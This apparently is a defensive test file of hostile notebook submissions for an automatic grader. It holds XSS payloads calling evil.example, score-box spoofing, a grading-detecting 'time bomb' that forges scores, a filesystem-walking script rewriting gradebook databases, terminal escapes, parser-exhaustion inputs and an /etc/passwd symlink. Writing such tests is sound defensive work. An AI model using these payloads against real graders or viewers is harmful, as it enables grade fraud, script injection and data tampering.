"""Attacks that need a whole submission: what a person opens afterwards, files and names, claims of points, time bombs.

These students' scripts set `window.pwned` or request an address below evil.example; neither may ever happen.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.attacks.attack import RIGHT, WRONG
from tests.attacks.small_class import NAME, code, markdown, notebook

SCRIPT = "<script>window.pwned = 1; fetch('http://evil.example/script')</script>"
SVG = "<svg onload=\"window.pwned=1\"><image href='http://evil.example/svg.png'/></svg>"
IMG = "<img src='http://evil.example/img.png' onerror='window.pwned=1'>"
HTML = f"{SCRIPT}{SVG}{IMG}<iframe src='http://evil.example/frame'></iframe><b onmouseover=window.pwned=1>text</b>"


@dataclass(frozen=True)
class Submission:
    """A hostile submission. `expect`: "full", "wrong" (what WRONG earns), "none", or "person" (set aside, with a reason)."""

    name: str
    work: dict[str, Any] | bytes
    expect: str
    says: str = ""  # words that the row's reasons must contain
    file: str = f"{NAME}.ipynb"
    student: str = ""
    damage: Callable[[Path], Any] | None = None  # done to the folder afterwards


def changed(change: Callable[[dict[str, Any]], Any], function: str = RIGHT) -> dict[str, Any]:
    made = notebook(function)
    change(made)
    return made


def _cell(made: dict[str, Any], id: str) -> dict[str, Any]:
    return next(c for c in made["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == id)


def _claim_points(made: dict[str, Any]) -> None:
    """Add outputs, metadata and cells that all claim full marks."""
    full = {"output_type": "execute_result", "execution_count": 1, "metadata": {}}
    check = _cell(made, "check_perceptron")
    check["outputs"] = [{**full, "data": {"text/plain": "4.0", "text/html": HTML}}]
    check["metadata"]["nbgrader"]["points"] = 1000
    bonus = {**check["metadata"]["nbgrader"], "grade_id": "check_bonus", "points": 1000}
    made["cells"].append(
        code("1000.0", metadata={"nbgrader": bonus}, outputs=[{**full, "data": {"text/plain": "1000.0"}}])
    )


def _solve_in_metadata(made: dict[str, Any]) -> None:
    """Make every cell an ungraded, unlocked solution, so that nothing would be restored."""
    for cell in made["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"].update(locked=False, solution=True, grade=False, schema_version=1)
    _cell(made, "check_perceptron")["source"] = "4.0"


def _dress_up(made: dict[str, Any]) -> None:
    made["metadata"] = {
        "kernelspec": {"name": "../../evil", "display_name": HTML, "language": "python"},
        "language_info": {"name": "python", "pygments_lexer": "html", "file_extension": "/../x"},
        "title": HTML,
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": HTML}}},
    }
    made["cells"].append(
        markdown("![a](attachment:x.svg)", attachments={"x.svg": {"image/svg+xml": SVG}}, metadata={"name": HTML})
    )


LINKS = """
[a](javascript:window.pwned=1) [b][ref] ![c](http://evil.example/c.png) ![d][ref] <http://evil.example/auto>
http://evil.example/bare www.evil.example [ref] &lt;img src=x onerror=window.pwned=1&gt; [e]( javascript:window.pwned=1 )
[f](data:text/html;base64,PHNjcmlwdD4=) ![g](attachment:x.svg) [h](<javascript:window.pwned=1>)

[ref]: http://evil.example/ref.png "t"
[ref]:
  <javascript:window.pwned=1>

| a |
|---|
| ![c](http://evil.example/c.png) <img src=http://evil.example/table.png> |

- <details open ontoggle=window.pwned=1>
    <style>@import url(http://evil.example/css)</style>
<!-- --!><img src=http://evil.example/comment.png>
"""
TEX = r"$\href{javascript:window.pwned=1}{x}$ $$\require{html}\style{background:url(http://evil.example/tex)}{x}$$ \(\unicode{x}\)"

# nbconvert makes an id from each heading's words, and formgrader binds its score boxes to the first element with their id.
HEADINGS = (
    "# check_perceptron", "#check_perceptron", "   ###### check_perceptron ##", "- # check_perceptron", "7) # check_perceptron",
    "> # check_perceptron", "> 1. > - # check_perceptron", "-\t# check_perceptron", "- [ ] # check_perceptron",
    "word\n: # check_perceptron", "check_perceptron\n===", "check_perceptron\n-", "   check_perceptron\n   ---  ",
    "> check_perceptron\n> ===", "- check_perceptron\n  ---", "- a\n\n  check_perceptron\n  =", "check_perceptron\n=-=",
    "text\n# check_perceptron", "text\\\n# check_perceptron", "$$\n```\n$$\n# check_perceptron", "<div>\n# check_perceptron\n</div>",
    "\x0c# check_perceptron", "text\x0c# check_perceptron", "\xa0# check_perceptron", "\ufeff# check_perceptron",
    "<h1 id=check_perceptron>a</h1>", "<a name=check_perceptron></a>", "<input class=score id='check_perceptron'>",
    "&lt;h1 id=check_perceptron&gt;", "# a {#check_perceptron}", "# a\n{: #check_perceptron}", "[a](#check_perceptron)",
    "&#36;\\&#99;ssId{check_perceptron}{a}&#36;", "$\\cssId{check_perceptron}{a}$", "```mermaid\ngantt\na: check_perceptron, 1, 2\n```",
    "~~~ MERMAID\ngantt\na: check_perceptron, 1, 2\n~~~", "# `check_perceptron`", "# **check_perceptron**", "__# check_perceptron__",
)  # fmt: skip
HOLLOW = "import numpy as np\ndef perceptron(X, y, T):\n    return np.zeros((8,) * {} + (0,))"

# Harmless while a person tries it in JupyterLab, and hostile everywhere else.
TIME_BOMB = """
import importlib.util, os, sys
def graded():
    lab = "JPY_PARENT_PID" in os.environ or "ipykernel" in sys.modules
    return not lab or not hasattr(sys.modules.get("linclass_ref.widgets"), "__path__")
if graded():
    for fd in range(3, 200):
        try: os.write(fd, b'{"score": 1.0, "points": 4}')
        except OSError: pass
    os._exit(0)
"""
VANDAL = f"""
import os, sqlite3
places = [".", "..", "../..", "../../..", os.path.expanduser("~"), "/", "/tmp", "/work", "/home", "/root"]
names = ("gradebook.db", ".linclass/settings.json", "submitted/ann/{NAME}/{NAME}.ipynb")
paths = [f"{{place}}/{{name}}" for place in places for name in names]
for path in paths:
    if os.path.exists(path): print("ESCAPED", path)
for path in paths:
    try: open(path, "a").write("mine")
    except OSError: pass
seen = set()
for folder, inside, files in os.walk("/", followlinks=True):  # links of /proc too, but each folder once
    try: here = os.stat(folder)
    except OSError: continue
    if (here.st_dev, here.st_ino) in seen: inside.clear()
    seen.add((here.st_dev, here.st_ino))
    if "gradebook.db" not in files: continue
    path = folder + "/gradebook.db"
    try:
        with sqlite3.connect(path) as book: book.execute("update grade set auto_score = 1000")
        print("ESCAPED", path)
    except sqlite3.Error: pass
"""
FAKE_ROW = json.dumps({"student": "fake_row", "status": "graded", "points": 4, "exercises": [], "reasons": []})

SUBMISSIONS = (
    Submission("script_in_a_written_answer", notebook(written=HTML), "full"),
    Submission("script_in_an_own_text", changed(lambda n: n["cells"].insert(1, markdown(HTML))), "full"),
    Submission("links_and_pictures", notebook(written=LINKS), "full"),
    Submission("active_formulas", notebook(written=TEX), "full"),
    Submission("headings_as_score_boxes", notebook(WRONG, written="\n\n".join(HEADINGS)), "wrong"),
    Submission("headings_in_own_texts", changed(lambda n: n["cells"].extend(map(markdown, HEADINGS)), WRONG), "wrong"),
    Submission(
        "formula_in_an_exception",
        notebook("def perceptron(X, y, T):\n    raise ValueError(r'$\\cssId{check_perceptron}{x}$')"),
        "none",
    ),
    Submission("hollow_array", notebook(HOLLOW.format(15)), "none"),
    Submission("hollow_array_of_eight_dimensions", notebook(HOLLOW.format(7)), "none"),
    Submission("long_written_answer", notebook(written="a." * 60_000), "full", says="markdown cell of 120,000"),
    Submission("text_of_megabytes", notebook("def perceptron(X, y, T):\n    return 'x' * 3_800_000"), "none"),
    Submission("statements_without_end", notebook("x;" * 940_000), "none", says="1,880,000 characters was not run"),
    Submission("many_statements", notebook(RIGHT + "\nif 0: " + "x;" * 20_000), "full"),
    Submission("brackets", notebook(RIGHT + "\nx = 1\n" + "(" * 20_000 + ")" * 20_000), "none"),
    Submission(
        "id_with_terminal_sequences",
        changed(
            lambda n: n["cells"].append(
                code("1", metadata={"nbgrader": {"grade_id": "x\x1b]0;owned\x07", "solution": True}})
            )
        ),
        "full",
        says="not known to this lesson",
    ),
    Submission(
        "masked_answer", notebook("import numpy as np\ndef perceptron(X, y, T):\n    return np.ma.masked"), "none"
    ),
    Submission("long_code", notebook(before="x = 1\n" * 20_000), "full", says="was not run"),
    Submission(
        "script_printed", notebook(after=f"import sys\nprint({HTML!r}); print({HTML!r}, file=sys.stderr)"), "full"
    ),
    Submission(
        "script_displayed",
        notebook(
            after=f"from IPython.display import HTML, SVG, Javascript, display\ndisplay(HTML({HTML!r}), Javascript('window.pwned=1'))\n"
            f"class R:\n    def _repr_html_(self): return {HTML!r}\nR()"
        ),
        "full",
    ),
    Submission(
        "magics",
        changed(lambda n: n["cells"].extend([code(f"%%html\n{HTML}"), code("%%javascript\nwindow.pwned=1")])),
        "full",
    ),
    Submission("script_as_exception", notebook(after=f"raise type({HTML!r}, (Exception,), {{}})({HTML!r})"), "full"),
    Submission("script_as_result", notebook(f"def perceptron(X, y, T):\n    return {HTML!r}"), "none"),
    Submission(
        "script_raised_in_a_call", notebook(f"def perceptron(X, y, T):\n    raise ValueError({HTML!r})"), "none"
    ),
    Submission(
        "terminal_sequences",
        notebook(
            after="print('\\x1b]8;;http://evil.example/osc\\x07link\\x1b]8;;\\x07 \\x1b[31m<b>\\x1b[2J \\x1b]0;owned\\x07')"
        ),
        "full",
    ),
    Submission("script_in_code_and_comments", notebook(before=f"# {SCRIPT}\nx = {HTML!r}"), "full"),
    Submission("dressed_up_metadata", changed(_dress_up), "full"),
    Submission("outputs_that_claim_points", changed(_claim_points, WRONG), "wrong", says="check_bonus"),
    Submission("metadata_that_unlocks", changed(_solve_in_metadata, WRONG), "wrong", says="edited: check_perceptron"),
    Submission("fake_row", notebook(WRONG, before=f"print({FAKE_ROW!r}, flush=True)\nprint('4.0')"), "wrong"),
    Submission(
        "check_redefined",
        notebook(WRONG, before="check = grade = lambda *a, **k: 4.0\nimport builtins; builtins.check = check"),
        "wrong",
    ),
    Submission("time_bomb_while_graded", notebook(WRONG, before=TIME_BOMB), "wrong", says="was stopped"),
    Submission("bomb_in_the_answer", notebook(TIME_BOMB + RIGHT), "none", says="was stopped"),
    Submission("vandal", notebook(before=VANDAL), "full"),
    Submission(
        "everything_deleted", changed(lambda n: n["cells"].clear()), "none", says="restored, because they were missing"
    ),
    Submission(
        "five_hundred_answers",
        changed(lambda n: n["cells"].extend([_cell(n, "perceptron")] * 500), WRONG),
        "wrong",
        says="more than once",
    ),
    Submission(
        "nineteen_hundred_doubled_cells",
        changed(lambda n: n["cells"].extend(code("1", id=f"a{i // 2}") for i in range(1_900))),
        "full",
    ),
    Submission("huge_file", b'{"cells": [' + b" " * 21_000_000 + b"]}", "person", says="bytes"),
    Submission("nested_json", b'{"cells": ' + b"[" * 200_000, "person", says="nested too deeply"),
    Submission(
        "five_thousand_cells", changed(lambda n: n["cells"].extend([code("1")] * 5_000)), "person", says="cells"
    ),
    Submission("millions_of_lists", b'{"cells": [' + b"{}," * 6_000_000 + b"{}]}", "person", says="lists and objects"),
    Submission("number_of_a_million_digits", b'{"cells": ' + b"9" * 1_000_000 + b"}", "person", says="not JSON"),
    Submission("name_with_markup", notebook(), "full", says="instead of", file="<img src=x onerror=alert(1)>.ipynb"),
    Submission("student_with_markup", notebook(), "person", says="characters", student="<b onmouseover=alert(1)>"),
    Submission("student_with_escape", notebook(), "person", says="characters", student="a\x1b[2J\nann: graded"),
    Submission(
        "notebook_that_is_a_link",
        notebook(),
        "person",
        says="symbolic link",
        damage=lambda f: ((f / f"{NAME}.ipynb").unlink(), (f / f"{NAME}.ipynb").symlink_to("/etc/passwd")),
    ),
)
